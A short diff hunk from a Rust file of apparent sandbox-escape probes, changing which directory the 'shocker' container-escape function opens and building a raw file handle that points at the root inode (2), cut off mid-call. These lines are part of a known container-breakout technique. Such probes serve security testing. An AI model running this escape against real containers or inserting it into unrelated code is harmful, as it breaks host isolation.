@@ -109,7 +109,7 @@ fn own_memory(_: &[String]) -> Result {
 
 /// The way out of old containers known as 'shocker'.
 fn open_by_handle(_: &[String]) -> Result {
-    let root = open("open /", "/", libc::O_RDONLY | libc::O_DIRECTORY, 0)?;
+    let root = open("open a folder", "/tmp", libc::O_RDONLY | libc::O_DIRECTORY, 0)?;
     // struct file_handle: 8 bytes, type 1 (FILEID_INO32_GEN), inode 2, generation 0.
     let handle: [u32; 4] = [8, 1, 2, 0];
     let fd = call(
